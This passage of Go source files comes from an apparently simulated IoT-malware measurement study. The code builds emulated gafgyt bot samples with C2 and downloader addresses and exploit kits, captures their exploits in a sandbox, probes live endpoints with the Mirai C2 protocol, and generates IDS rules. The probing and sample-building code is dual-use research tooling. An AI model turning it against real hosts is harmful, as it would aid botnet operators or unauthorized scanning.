		6:  func() string { return results.NewFigure6(st).Render() },
		7:  func() string { return results.NewFigure7(st).Render() },
		8:  func() string { return results.NewFigure8(st).Render() },
		9:  func() string { return results.NewFigure9(st).Render() },
		10: func() string { return results.NewFigure10(st).Render() },
		11: func() string { return results.NewFigure11(st).Render() },
		12: func() string { return results.NewFigure12(st).Render() },
		13: func() string { return results.NewFigure13(st).Render() },
	}

	switch {
	case *table > 0:
		render, ok := tables[*table]
		if !ok {
			fmt.Fprintf(os.Stderr, "no table %d\n", *table)
			return 2
		}
		fmt.Println(render())
	case *figure > 0:
		render, ok := figures[*figure]
		if !ok {
			fmt.Fprintf(os.Stderr, "no figure %d\n", *figure)
			return 2
		}
		fmt.Println(render())
	case *headlines:
		fmt.Println(results.NewHeadlines(st).Render())
		fmt.Println(results.NewDetectionQuality(st).Render())
	default:
		for i := 1; i <= 7; i++ {
			fmt.Println(tables[i]())
		}
		for i := 1; i <= 13; i++ {
			fmt.Println(figures[i]())
		}
		fmt.Println(results.NewHeadlines(st).Render())
		fmt.Println(results.NewDetectionQuality(st).Render())
	}
	if flags.Faults {
		fmt.Println(results.NewFaultSummary(st).Render())
	}
	if *table == 0 && *figure == 0 && !*headlines {
		fmt.Println(results.NewMetricsSection(st).Render())
	}
	return 0
}

// seedSweep reruns the study across n seeds and prints min/mean/max
// for the headline metrics — the robustness check a reviewer asks
// for ("how seed-dependent are these numbers?").
func seedSweep(n, samples, probeRounds int, short bool) {
	type row struct {
		name   string
		values []float64
		paper  string
	}
	rows := []*row{
		{name: "dead C2 on day 0 (%)", paper: "60"},
		{name: "TI same-day miss (%)", paper: "15.3"},
		{name: "DDoS commands", paper: "42"},
		{name: "attack C2 servers", paper: "17"},
		{name: "activation rate (%)", paper: "~90"},
		{name: "UDP attack share (%)", paper: "74"},
		{name: "probed live C2s", paper: "7"},
		{name: "second-probe miss (%)", paper: "91"},
	}
	for seed := int64(1); seed <= int64(n); seed++ {
		wcfg := world.DefaultConfig(seed)
		scfg := core.Defaults(seed)
		if short {
			wcfg.TotalSamples = 150
			scfg.Analysis.ProbeRounds = 12
		}
		if samples > 0 {
			wcfg.TotalSamples = samples
		}
		if probeRounds > 0 {
			scfg.Analysis.ProbeRounds = probeRounds
		}
		fmt.Fprintf(os.Stderr, "seed %d/%d...\n", seed, n)
		st := core.RunStudy(world.Generate(wcfg), scfg)
		h := results.NewHeadlines(st)
		t3 := results.NewTable3(st)
		f4 := results.NewFigure4(st)
		f10 := results.NewFigure10(st)
		vals := []float64{
			100 * h.DeadC2Day0Share,
			100 * t3.AllDay0,
			float64(len(st.DDoS)),
			float64(h.DistinctAttackC2s),
			100 * h.ActivationRate,
			100 * f10.UDPShare(),
			float64(len(f4.Targets)),
			100 * f4.SecondProbeMiss,
		}
		for i, v := range vals {
			rows[i].values = append(rows[i].values, v)
		}
	}
	fmt.Printf("robustness over %d seeds (paper value in parentheses)\n", n)
	for _, r := range rows {
		min, max, sum := r.values[0], r.values[0], 0.0
		for _, v := range r.values {
			if v < min {
				min = v
			}
			if v > max {
				max = v
			}
			sum += v
		}
		fmt.Printf("  %-24s mean %7.1f  range [%.1f, %.1f]  (%s)\n",
			r.name, sum/float64(len(r.values)), min, max, r.paper)
	}
}
