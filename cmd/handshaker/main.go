// Command handshaker demonstrates exploit extraction (§2.4): it
// builds exploit-armed samples, activates each in the sandbox with
// the handshaker's fake victims armed, and prints the captured
// exploits classified against the vulnerability catalog.
//
// Usage:
//
//	handshaker [-seed N] [-n SAMPLES] [-threshold N]
package main

import (
	"flag"
	"fmt"
	"math/rand"
	"os"
	"time"

	"malnet/internal/binfmt"
	"malnet/internal/core"
	"malnet/internal/sandbox"
	"malnet/internal/simclock"
	"malnet/internal/simnet"
	"malnet/internal/vuln"
)

func main() {
	var (
		seed      = flag.Int64("seed", 1, "sample seed")
		n         = flag.Int("n", 5, "samples to analyze")
		threshold = flag.Int("threshold", 20, "distinct-IP port threshold")
	)
	flag.Parse()

	clock := simclock.New(time.Date(2021, 6, 1, 0, 0, 0, 0, time.UTC))
	net := simnet.New(clock, simnet.DefaultConfig())
	sb := sandbox.New(net, sandbox.Config{Seed: *seed})

	rng := rand.New(rand.NewSource(*seed))
	catalog := vuln.Catalog()
	byKey := vuln.ByKey()
	loaders := vuln.LoaderNames()

	for i := 0; i < *n; i++ {
		// Build a sample with a random 2-vuln kit.
		a := catalog[rng.Intn(len(catalog))]
		b := catalog[rng.Intn(len(catalog))]
		kit := []string{a.Key}
		if b.Key != a.Key {
			kit = append(kit, b.Key)
		}
		ports := map[uint16]bool{23: true}
		for _, k := range kit {
			ports[byKey[k].Port] = true
		}
		var scanPorts []uint16
		for p := range ports {
			scanPorts = append(scanPorts, p)
		}
		cfg := binfmt.BotConfig{
			Family: "gafgyt", Variant: "v1",
			C2Addrs:        []string{"60.0.0.9:6667"},
			ScanPorts:      scanPorts,
			ExploitIDs:     kit,
			LoaderName:     loaders[rng.Intn(len(loaders))].Name,
			DownloaderAddr: "60.0.0.9:80",
		}
		raw, err := binfmt.Encode(cfg, rand.New(rand.NewSource(*seed+int64(i))), nil)
		if err != nil {
			fatal(err)
		}
		rep, err := sb.Run(raw, sandbox.RunOptions{
			Mode:                sandbox.ModeIsolated,
			Duration:            30 * time.Minute,
			HandshakerThreshold: *threshold,
		})
		if err != nil {
			fatal(err)
		}
		findings := core.ClassifyExploits(rep)
		fmt.Printf("sample %s (kit %v):\n", rep.SHA256[:12], kit)
		for _, f := range findings {
			for _, v := range f.Vulns {
				fmt.Printf("  captured %-16s on port %-5d loader=%s downloader=%s (%d bytes)\n",
					v.Label(), f.Port, f.Loader, f.Downloader, len(f.Payload))
			}
		}
		if len(findings) == 0 {
			fmt.Println("  no exploits captured")
		}
	}
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "handshaker:", err)
	os.Exit(1)
}
