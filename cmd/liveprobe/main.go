// Command liveprobe checks whether real endpoints speak an IoT C2
// protocol — the deployment form of the paper's weaponized probing
// (§2.1, second mode), for defensive confirmation of suspected C2
// addresses from malware profiles. It shares every protocol byte
// with the simulated study.
//
// Usage:
//
//	liveprobe [-family mirai|gafgyt|daddyl33t|tsunami]
//	          [-timeout DUR] host:port [host:port ...]
//
// With no targets it runs a loopback demo: starts a Mirai-style C2
// and an nginx-style banner host locally and probes both.
package main

import (
	"bytes"
	"context"
	"flag"
	"fmt"
	"net"
	"os"
	"time"

	"malnet/internal/c2"
	"malnet/internal/realprobe"
)

func main() {
	var (
		family  = flag.String("family", "mirai", "weaponized protocol")
		timeout = flag.Duration("timeout", 10*time.Second, "engagement timeout per target")
	)
	flag.Parse()

	targets := flag.Args()
	if len(targets) == 0 {
		targets = demoTargets()
		fmt.Println("no targets given; probing loopback demo servers")
	}
	p := &realprobe.Prober{Family: *family, EngageTimeout: *timeout}
	for _, res := range p.ProbeAll(context.Background(), targets) {
		switch res.Verdict {
		case realprobe.VerdictEngaged:
			fmt.Printf("%-22s LIVE C2 (%s protocol engaged, rtt %v)\n", res.Target, res.Family, res.RTT.Round(time.Millisecond))
		case realprobe.VerdictBanner:
			fmt.Printf("%-22s benign service: %q\n", res.Target, res.Banner)
		case realprobe.VerdictAcceptedSilent:
			fmt.Printf("%-22s accepted but silent\n", res.Target)
		default:
			fmt.Printf("%-22s no answer (%v)\n", res.Target, res.Err)
		}
	}
}

// demoTargets starts a Mirai-style responder and an nginx-style
// banner host on loopback.
func demoTargets() []string {
	c2ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		fatal(err)
	}
	go func() {
		for {
			conn, err := c2ln.Accept()
			if err != nil {
				return
			}
			go func(conn net.Conn) {
				defer conn.Close()
				buf := make([]byte, 16)
				var got []byte
				for {
					n, err := conn.Read(buf)
					if err != nil {
						return
					}
					got = append(got, buf[:n]...)
					for len(got) >= 4 && bytes.Equal(got[:4], c2.MiraiHandshake) {
						got = got[4:]
					}
					for len(got) >= 2 && got[0] == 0 && got[1] == 0 {
						conn.Write(c2.MiraiPing)
						got = got[2:]
					}
				}
			}(conn)
		}
	}()
	webln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		fatal(err)
	}
	go func() {
		for {
			conn, err := webln.Accept()
			if err != nil {
				return
			}
			go func(conn net.Conn) {
				defer conn.Close()
				// nginx answers any malformed input with a 400.
				buf := make([]byte, 256)
				conn.Read(buf)
				conn.Write([]byte("HTTP/1.1 400 Bad Request\r\nServer: nginx/1.18.0\r\n\r\n"))
			}(conn)
		}
	}()
	return []string{c2ln.Addr().String(), webln.Addr().String()}
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "liveprobe:", err)
	os.Exit(1)
}
