// Command malnet runs the complete MalNet study end-to-end and
// writes the five datasets as CSV-ish text files plus a summary.
//
// Usage:
//
//	malnet [-seed N] [-samples N] [-workers N] [-short] [-out DIR]
//	       [-faults] [-fault-seed N] [-v]
//	       [-trace-out FILE] [-metrics-out FILE] [-debug-addr ADDR]
//	       [-checkpoint-dir DIR] [-checkpoint-every N] [-resume]
//
// With -checkpoint-dir the study snapshots itself at day-batch
// boundaries; a run killed by ^C (or anything else) restarts from the
// newest snapshot with -resume, producing byte-identical output to an
// uninterrupted run. An interrupted run still flushes its trace
// journal and metrics snapshot, so partial observability survives.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"os"
	"os/signal"
	"path/filepath"
	"sort"
	"strings"
	"syscall"
	"time"

	"malnet/internal/core"
	"malnet/internal/ids"
	"malnet/internal/obs"
	"malnet/internal/results"
	"malnet/internal/world"
)

func main() { os.Exit(run()) }

// run is main with defer-friendly exits: every path out flushes the
// trace journal and writes the metrics snapshot before the process
// dies, so a cancelled or failed study keeps its partial telemetry.
func run() int {
	var (
		seed       = flag.Int64("seed", 42, "world and pipeline seed")
		samples    = flag.Int("samples", 0, "feed size (0 = paper's 1447)")
		workers    = flag.Int("workers", 0, "sandbox worker pool size (0 = all cores); output is identical at any value")
		short      = flag.Bool("short", false, "scaled-down study")
		out        = flag.String("out", "malnet-out", "output directory")
		faults     = flag.Bool("faults", false, "inject deterministic network faults (loss, resets, spikes, blackouts, slow drips)")
		faultSeed  = flag.Int64("fault-seed", 0, "fault-plan seed (0 = -seed); same seed reproduces the same fault schedule at any worker count")
		verbose    = flag.Bool("v", false, "print per-1000-sample throughput to stderr while the study runs")
		traceOut   = flag.String("trace-out", "", "write the virtual-time trace journal (JSONL spans + events) to FILE")
		metricsOut = flag.String("metrics-out", "", "write the deterministic metrics snapshot to FILE")
		debugAddr  = flag.String("debug-addr", "", "serve live pprof/expvar/wall-profile on ADDR (e.g. :6060) while the study runs")
		ckptDir    = flag.String("checkpoint-dir", "", "write resumable study snapshots to DIR at day-batch boundaries")
		ckptEvery  = flag.Int("checkpoint-every", 1, "snapshot after every N-th non-empty day batch")
		resume     = flag.Bool("resume", false, "resume from the newest snapshot in -checkpoint-dir (config must match)")
	)
	flag.Parse()

	fail := func(err error) int {
		fmt.Fprintln(os.Stderr, "malnet:", err)
		return 1
	}
	if *resume && *ckptDir == "" {
		return fail(fmt.Errorf("-resume needs -checkpoint-dir"))
	}

	wcfg := world.DefaultConfig(*seed)
	scfg := core.DefaultStudyConfig(*seed)
	scfg.Workers = *workers
	scfg.Faults = *faults
	scfg.FaultSeed = *faultSeed
	scfg.Checkpoint = core.CheckpointConfig{Dir: *ckptDir, Every: *ckptEvery, Resume: *resume}
	if *short {
		wcfg.TotalSamples = 150
		scfg.ProbeRounds = 12
	}
	if *samples > 0 {
		wcfg.TotalSamples = *samples
	}

	observer := obs.NewObserver()
	scfg.Obs = observer
	if *traceOut != "" {
		// Resuming rewinds the existing trace file to the snapshot's
		// cursor instead of truncating it: the journaled prefix up to
		// the checkpoint is part of the resumed run's output.
		mode := os.O_RDWR | os.O_CREATE
		if !*resume {
			mode |= os.O_TRUNC
		}
		f, err := os.OpenFile(*traceOut, mode, 0o644)
		if err != nil {
			return fail(err)
		}
		defer f.Close()
		observer.SetJournal(f)
	}
	defer func() {
		// Telemetry outlives failures: these run on every exit path.
		if *traceOut != "" {
			if err := observer.Flush(); err != nil {
				fmt.Fprintln(os.Stderr, "malnet: flushing trace:", err)
			} else {
				fmt.Printf("wrote %s\n", *traceOut)
			}
		}
		if *metricsOut != "" {
			if err := os.WriteFile(*metricsOut, []byte(observer.Root.Registry().Snapshot()), 0o644); err != nil {
				fmt.Fprintln(os.Stderr, "malnet: writing metrics:", err)
			} else {
				fmt.Printf("wrote %s\n", *metricsOut)
			}
		}
	}()
	if *debugAddr != "" {
		observer.Wall.PublishExpvar("malnet")
		srv, addr, err := obs.ServeDebug(*debugAddr, observer.Wall)
		if err != nil {
			return fail(err)
		}
		defer srv.Close()
		fmt.Fprintf(os.Stderr, "debug server on http://%s/debug/pprof/ (also /debug/vars, /debug/wall)\n", addr)
	}
	if *verbose {
		scfg.Progress = func(p core.ProgressUpdate) {
			fmt.Fprintf(os.Stderr,
				"processed %d feed entries (%d accepted) in %v — %.0f samples/sec; alive=%d retried=%d dead=%d timed-out=%d\n",
				p.Processed, p.Accepted, p.Elapsed.Round(time.Millisecond), p.Rate,
				p.Dispositions[core.DispAlive], p.Dispositions[core.DispRetriedThenAlive],
				p.Dispositions[core.DispDead], p.Dispositions[core.DispTimedOut])
		}
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	start := time.Now()
	w := world.Generate(wcfg)
	st, err := core.RunStudyContext(ctx, w, scfg)
	if err != nil {
		if *ckptDir != "" && errors.Is(err, context.Canceled) {
			fmt.Fprintln(os.Stderr, "malnet: re-run with -resume to continue from the last checkpoint")
		}
		return fail(fmt.Errorf("study interrupted: %w", err))
	}
	fmt.Printf("study complete in %v\n", time.Since(start).Round(time.Millisecond))

	if err := os.MkdirAll(*out, 0o755); err != nil {
		return fail(err)
	}
	var writeErr error
	write := func(name, content string) {
		if writeErr != nil {
			return
		}
		if err := os.WriteFile(filepath.Join(*out, name), []byte(content), 0o644); err != nil {
			writeErr = err
			return
		}
		fmt.Printf("wrote %s\n", filepath.Join(*out, name))
	}

	// D-Samples.
	var sb strings.Builder
	sb.WriteString("sha256,date,family,family_avclass,p2p,detections,c2s,live_day0,exploits,disposition,c2_retries,faults\n")
	for _, s := range st.Samples {
		fmt.Fprintf(&sb, "%s,%s,%s,%s,%v,%d,%d,%v,%d,%s,%d,%d\n",
			s.SHA, s.Date.Format("2006-01-02"), s.Family, s.FamilyAVClass,
			s.P2P, s.Detections, len(s.C2s), s.LiveDay0, len(s.Exploits),
			s.Disposition, s.C2Retries, s.Faults.Total())
	}
	write("d-samples.csv", sb.String())

	// D-C2s.
	sb.Reset()
	sb.WriteString("address,kind,asn_ip,first_seen,last_seen,lifespan_days,samples,ever_live,day0_malicious,may7_malicious,vendors_day0,vendors_may7,verified\n")
	var addrs []string
	for a := range st.C2s {
		addrs = append(addrs, a)
	}
	sort.Strings(addrs)
	for _, a := range addrs {
		r := st.C2s[a]
		fmt.Fprintf(&sb, "%s,%s,%s,%s,%s,%.1f,%d,%v,%v,%v,%d,%d,%v\n",
			r.Address, r.Kind, r.IP, r.FirstSeen.Format("2006-01-02"),
			r.LastSeen.Format("2006-01-02"), r.LifespanDays(), len(r.Samples),
			r.EverLive, r.Day0Malicious, r.May7Malicious, r.Day0Vendors, r.May7Vendors, r.Verified)
	}
	write("d-c2s.csv", sb.String())

	// D-Exploits.
	sb.Reset()
	sb.WriteString("sha256,date,vulns,port,downloader,loader\n")
	for _, f := range st.Exploits {
		keys := make([]string, 0, len(f.Vulns))
		for _, v := range f.Vulns {
			keys = append(keys, v.Key)
		}
		fmt.Fprintf(&sb, "%s,%s,%s,%d,%s,%s\n",
			f.SHA256, f.Date.Format("2006-01-02"), strings.Join(keys, "+"), f.Port, f.Downloader, f.Loader)
	}
	write("d-exploits.csv", sb.String())

	// D-DDOS.
	sb.Reset()
	sb.WriteString("time,sha256,c2,attack,target,port,duration_s,method,verified\n")
	for _, o := range st.DDoS {
		fmt.Fprintf(&sb, "%s,%s,%s,%s,%s,%d,%.0f,%s,%v\n",
			o.Time.Format(time.RFC3339), o.SHA256, o.C2, o.Command.Attack,
			o.Command.Target, o.Command.Port, o.Command.Duration.Seconds(), o.Method, o.Verified)
	}
	write("d-ddos.csv", sb.String())

	// D-PC2.
	sb.Reset()
	sb.WriteString("target,engagements,probes,outcomes\n")
	for _, t := range st.MergedLiveC2s() {
		marks := make([]byte, len(t.Outcomes))
		for i, o := range t.Outcomes {
			switch o {
			case core.ProbeEngaged:
				marks[i] = '#'
			case core.ProbeAcceptedSilent:
				marks[i] = '+'
			case core.ProbeBanner:
				marks[i] = 'B'
			default:
				marks[i] = '.'
			}
		}
		fmt.Fprintf(&sb, "%s,%d,%d,%s\n", t.Addr, t.Engagements(), len(t.Outcomes), marks)
	}
	write("d-pc2.csv", sb.String())

	// Firewall / IDS rules derived from the study — the paper's
	// "potential impact" output (§1: firewall rules; §6a).
	rules := core.GenerateRules(st)
	write("malnet.rules", "# MalNet-generated rules (SNORT-like dialect)\n"+ids.RenderAll(rules))

	// Ground-truth answer key (dataset sharing, and the reference
	// for validating third-party analyses of the CSVs above).
	var gtBuf strings.Builder
	if err := w.WriteGroundTruth(&gtBuf); err != nil {
		return fail(err)
	}
	write("ground-truth.json", gtBuf.String())

	// Summary report.
	summary := results.NewTable1(st).Render() + "\n" + results.NewHeadlines(st).Render()
	if *faults {
		summary += "\n" + results.NewFaultSummary(st).Render()
	}
	summary += "\n" + results.NewMetricsSection(st).Render()
	write("summary.txt", summary)
	if writeErr != nil {
		return fail(writeErr)
	}
	fmt.Printf("generated %d firewall/IDS rules\n\n", len(rules))
	fmt.Print(summary)
	return 0
}
