// Command malnet runs the complete MalNet study end-to-end and
// writes the five datasets as CSV-ish text files plus a summary.
//
// Usage:
//
//	malnet [-seed N] [-samples N] [-workers N] [-short] [-out DIR]
//	       [-faults] [-fault-seed N] [-v]
//	       [-trace-out FILE] [-metrics-out FILE] [-debug-addr ADDR]
//	       [-checkpoint-dir DIR] [-checkpoint-every N] [-resume]
//
// With -checkpoint-dir the study snapshots itself at day-batch
// boundaries; a run killed by ^C (or anything else) restarts from the
// newest snapshot with -resume, producing byte-identical output to an
// uninterrupted run. An interrupted run still flushes its trace
// journal and metrics snapshot, so partial observability survives.
// The snapshots double as the data source for cmd/malnetd, the query
// daemon that serves finished (or still-running) studies over HTTP.
package main

import (
	"context"
	"flag"
	"fmt"
	"os"
	"os/signal"
	"path/filepath"
	"sort"
	"strings"
	"syscall"
	"time"

	"malnet/internal/cli"
	"malnet/internal/core"
	"malnet/internal/ids"
	"malnet/internal/obs"
	"malnet/internal/results"
	"malnet/internal/world"
)

func main() { os.Exit(run()) }

// run is main with defer-friendly exits: every path out flushes the
// trace journal and writes the metrics snapshot before the process
// dies, so a cancelled or failed study keeps its partial telemetry.
func run() int {
	flags := cli.NewStudyFlags(flag.CommandLine)
	out := flag.String("out", "malnet-out", "output directory")
	flag.Parse()

	fail := func(err error) int {
		fmt.Fprintln(os.Stderr, "malnet:", err)
		return 1
	}
	wcfg, scfg, err := flags.Configs()
	if err != nil {
		return fail(err)
	}

	observer := obs.NewObserver()
	scfg.Observability.Obs = observer
	scfg.Observability.Progress = flags.ProgressPrinter()
	cleanup, err := flags.Obs.Instrument(observer, flags.Checkpoint.Resume, "malnet")
	// Telemetry outlives failures: cleanup runs on every exit path.
	defer cleanup()
	if err != nil {
		return fail(err)
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	start := time.Now()
	w := world.Generate(wcfg)
	st, err := core.RunStudyContext(ctx, w, scfg)
	if err != nil {
		flags.Checkpoint.InterruptHint("malnet", err)
		return fail(fmt.Errorf("study interrupted: %w", err))
	}
	fmt.Printf("study complete in %v\n", time.Since(start).Round(time.Millisecond))

	if err := os.MkdirAll(*out, 0o755); err != nil {
		return fail(err)
	}
	var writeErr error
	write := func(name, content string) {
		if writeErr != nil {
			return
		}
		if err := os.WriteFile(filepath.Join(*out, name), []byte(content), 0o644); err != nil {
			writeErr = err
			return
		}
		fmt.Printf("wrote %s\n", filepath.Join(*out, name))
	}

	// D-Samples.
	var sb strings.Builder
	sb.WriteString("sha256,date,family,family_avclass,p2p,detections,c2s,live_day0,exploits,disposition,c2_retries,faults\n")
	for _, s := range st.Samples {
		fmt.Fprintf(&sb, "%s,%s,%s,%s,%v,%d,%d,%v,%d,%s,%d,%d\n",
			s.SHA, s.Date.Format("2006-01-02"), s.Family, s.FamilyAVClass,
			s.P2P, s.Detections, len(s.C2s), s.LiveDay0, len(s.Exploits),
			s.Disposition, s.C2Retries, s.Faults.Total())
	}
	write("d-samples.csv", sb.String())

	// D-C2s.
	sb.Reset()
	sb.WriteString("address,kind,asn_ip,first_seen,last_seen,lifespan_days,samples,ever_live,day0_malicious,may7_malicious,vendors_day0,vendors_may7,verified\n")
	var addrs []string
	for a := range st.C2s {
		addrs = append(addrs, a)
	}
	sort.Strings(addrs)
	for _, a := range addrs {
		r := st.C2s[a]
		fmt.Fprintf(&sb, "%s,%s,%s,%s,%s,%.1f,%d,%v,%v,%v,%d,%d,%v\n",
			r.Address, r.Kind, r.IP, r.FirstSeen.Format("2006-01-02"),
			r.LastSeen.Format("2006-01-02"), r.LifespanDays(), len(r.Samples),
			r.EverLive, r.Day0Malicious, r.May7Malicious, r.Day0Vendors, r.May7Vendors, r.Verified)
	}
	write("d-c2s.csv", sb.String())

	// D-Exploits.
	sb.Reset()
	sb.WriteString("sha256,date,vulns,port,downloader,loader\n")
	for _, f := range st.Exploits {
		keys := make([]string, 0, len(f.Vulns))
		for _, v := range f.Vulns {
			keys = append(keys, v.Key)
		}
		fmt.Fprintf(&sb, "%s,%s,%s,%d,%s,%s\n",
			f.SHA256, f.Date.Format("2006-01-02"), strings.Join(keys, "+"), f.Port, f.Downloader, f.Loader)
	}
	write("d-exploits.csv", sb.String())

	// D-DDOS.
	sb.Reset()
	sb.WriteString("time,sha256,c2,attack,target,port,duration_s,method,verified\n")
	for _, o := range st.DDoS {
		fmt.Fprintf(&sb, "%s,%s,%s,%s,%s,%d,%.0f,%s,%v\n",
			o.Time.Format(time.RFC3339), o.SHA256, o.C2, o.Command.Attack,
			o.Command.Target, o.Command.Port, o.Command.Duration.Seconds(), o.Method, o.Verified)
	}
	write("d-ddos.csv", sb.String())

	// D-PC2.
	sb.Reset()
	sb.WriteString("target,engagements,probes,outcomes\n")
	for _, t := range st.MergedLiveC2s() {
		marks := make([]byte, len(t.Outcomes))
		for i, o := range t.Outcomes {
			switch o {
			case core.ProbeEngaged:
				marks[i] = '#'
			case core.ProbeAcceptedSilent:
				marks[i] = '+'
			case core.ProbeBanner:
				marks[i] = 'B'
			default:
				marks[i] = '.'
			}
		}
		fmt.Fprintf(&sb, "%s,%d,%d,%s\n", t.Addr, t.Engagements(), len(t.Outcomes), marks)
	}
	write("d-pc2.csv", sb.String())

	// Firewall / IDS rules derived from the study — the paper's
	// "potential impact" output (§1: firewall rules; §6a).
	rules := core.GenerateRules(st)
	write("malnet.rules", "# MalNet-generated rules (SNORT-like dialect)\n"+ids.RenderAll(rules))

	// Ground-truth answer key (dataset sharing, and the reference
	// for validating third-party analyses of the CSVs above).
	var gtBuf strings.Builder
	if err := w.WriteGroundTruth(&gtBuf); err != nil {
		return fail(err)
	}
	write("ground-truth.json", gtBuf.String())

	// Summary report.
	summary := results.NewTable1(st).Render() + "\n" + results.NewHeadlines(st).Render()
	if flags.Faults {
		summary += "\n" + results.NewFaultSummary(st).Render()
	}
	summary += "\n" + results.NewMetricsSection(st).Render()
	write("summary.txt", summary)
	if writeErr != nil {
		return fail(writeErr)
	}
	fmt.Printf("generated %d firewall/IDS rules\n\n", len(rules))
	fmt.Print(summary)
	return 0
}
