// Command malnetbench load-tests a live malnetd: an open-loop HTTP
// generator that replays a deterministic, zipf-distributed query
// schedule (hot families, hot days, hot C2 endpoints dominating, the
// long tail always arriving) against the /v1 API — point lookups,
// index pages, and /v1/query columnar aggregations — and reports
// p50/p99/p999 latency, throughput, and error rate per endpoint.
//
//	go run ./cmd/malnetbench -target http://127.0.0.1:8377 \
//	    -rate 2000 -concurrency 16 -duration 30s -seed 7
//
// Arrivals are paced at -rate regardless of how fast the daemon
// answers, and latency is measured from each request's *scheduled*
// start — a saturated daemon shows up as queueing delay in the tail
// percentiles instead of silently slowing the request stream
// (the coordinated-omission correction).
//
// With the daemon's -debug-addr passed as -debug, the summary also
// reports server-side allocs per request, sampled from the daemon's
// expvar memstats — the binary-centric view of what each query costs
// the serving process — and scrapes the daemon's /metrics exposition
// before and after the run: the "server" rows carry the daemon's own
// RED deltas for the same burst (request counts, 5xx, cache
// hit/miss/coalesced, rows scanned) plus histogram-interpolated
// p50/p99/p999 service time. Client p99 minus server p99 is the
// queueing the daemon never saw.
//
// The summary is JSON; its "results" rows use the same schema as
// tools/benchjson, so a load run merges into the repo's archived
// benchmark document:
//
//	go run ./tools/benchjson -merge BENCH_2026-08-07.json -merge summary.json </dev/null
//
// -duration 0 performs no HTTP at all: it emits the first -schedule
// entries of the deterministic query plan, which is what the golden
// test in internal/loadgen pins down.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"

	"malnet/internal/cli"
	"malnet/internal/loadgen"
)

func main() {
	f := cli.NewLoadFlags(flag.CommandLine)
	flag.Parse()

	var sum *loadgen.Summary
	if f.Duration == 0 {
		sum = loadgen.ScheduleOnly(f.Config(), f.ScheduleN)
	} else {
		if f.Target == "" {
			fmt.Fprintln(os.Stderr, "malnetbench: -target is required (or -duration 0 for schedule-only mode)")
			flag.Usage()
			os.Exit(2)
		}
		var err error
		sum, err = loadgen.Run(f.Config())
		if err != nil {
			fmt.Fprintf(os.Stderr, "malnetbench: %v\n", err)
			os.Exit(1)
		}
		report(sum)
	}

	out := os.Stdout
	if f.Out != "" {
		fh, err := os.Create(f.Out)
		if err != nil {
			fmt.Fprintf(os.Stderr, "malnetbench: %v\n", err)
			os.Exit(1)
		}
		defer fh.Close()
		out = fh
	}
	enc := json.NewEncoder(out)
	enc.SetIndent("", "  ")
	if err := enc.Encode(sum); err != nil {
		fmt.Fprintf(os.Stderr, "malnetbench: %v\n", err)
		os.Exit(1)
	}
	if f.Out != "" {
		fmt.Fprintf(os.Stderr, "wrote %s\n", f.Out)
	}

	if f.RequireOK && f.Duration != 0 {
		if sum.Errors > 0 || sum.ThroughputRPS == 0 {
			fmt.Fprintf(os.Stderr, "malnetbench: require-success failed: %d errors, %.1f req/s\n",
				sum.Errors, sum.ThroughputRPS)
			os.Exit(1)
		}
	}
}

// report prints the human-readable run summary to stderr (stdout is
// reserved for the JSON summary when -out is unset).
func report(sum *loadgen.Summary) {
	fmt.Fprintf(os.Stderr, "malnetbench: %d requests in %.1fs against %s (generation %.12s…)\n",
		sum.Requests, sum.DurationSec, sum.Target, sum.Generation)
	fmt.Fprintf(os.Stderr, "  throughput %.1f req/s, %d errors\n", sum.ThroughputRPS, sum.Errors)
	if sum.ServerAllocsOp != nil {
		fmt.Fprintf(os.Stderr, "  server-side allocs/op: %.1f\n", *sum.ServerAllocsOp)
	}
	for _, ep := range sum.Endpoints {
		fmt.Fprintf(os.Stderr, "  %-10s %7d req  p50 %8.0fns  p99 %8.0fns  p999 %8.0fns  err %d\n",
			ep.Endpoint, ep.Requests, ep.P50Ns, ep.P99Ns, ep.P999Ns, ep.Errors)
	}
	if len(sum.Server) > 0 {
		fmt.Fprintf(os.Stderr, "  server-side (/metrics deltas; service time, no client queueing):\n")
		for _, ep := range sum.Server {
			fmt.Fprintf(os.Stderr, "  %-10s %7d req  p50 %8.0fns  p99 %8.0fns  p999 %8.0fns  5xx %d  hit/miss/coal %d/%d/%d\n",
				ep.Endpoint, ep.Requests, ep.P50Ns, ep.P99Ns, ep.P999Ns, ep.Errors,
				ep.CacheHit, ep.CacheMiss, ep.CacheCoal)
		}
	}
}
