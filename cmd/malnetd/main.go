// Command malnetd serves a finished (or still-running) MalNet study
// over HTTP. It loads the newest valid snapshot from a checkpoint
// directory — the same day-NNN.ckpt files cmd/malnet writes with
// -checkpoint-dir — indexes it in memory, and answers JSON queries:
//
//	GET /v1/headline            dataset sizes + headline findings
//	GET /v1/metrics             the deterministic metrics section
//	GET /v1/samples?family=&day=&c2=&limit=&cursor=
//	GET /v1/c2                  every known C2 endpoint, paginated
//	GET /v1/c2/{addr}           one endpoint + the samples citing it
//	GET /v1/attacks?type=&limit=&cursor=
//	GET /v1/query?q=            columnar filter+aggregate expressions,
//	                            e.g. family=="mirai" and day in
//	                            100..200 | count() by c2
//
// When -checkpoint-dir holds a run lake (written by cmd/malnet with
// -lake-dir), the whole lake is mounted: the default store tracks
// -branch's head, every endpoint above additionally accepts run= and
// asof= selectors that resolve through the commit journal to any
// retained generation, and two lake-only endpoints appear:
//
//	GET /v1/runs?limit=         branches, runs, retained generations
//	GET /v1/diff?a=&b=          headline/aggregate comparison across
//	                            two selectors (branch-or-run[@day])
//
// While a study is still running, malnetd polls the directory and
// hot-reloads newer snapshots: the indexed store is swapped
// atomically, so in-flight requests finish against the snapshot they
// started on. Identical snapshots produce byte-identical responses,
// which is what makes the smoke test's golden-JSON diff possible.
//
// The serving library (internal/serve) never reads the wall clock;
// the reload ticker lives here, in the command, and request timing is
// delegated to internal/obs/redplane — the one serving-path package
// allowed to touch `time`. With -debug-addr set, the debug listener
// additionally exposes per-endpoint RED metrics in Prometheus text
// format at /metrics and a slow-query ring at /debug/slowlog
// (threshold via -slowlog-threshold); -access-log FILE appends one
// JSON line per request.
package main

import (
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"time"

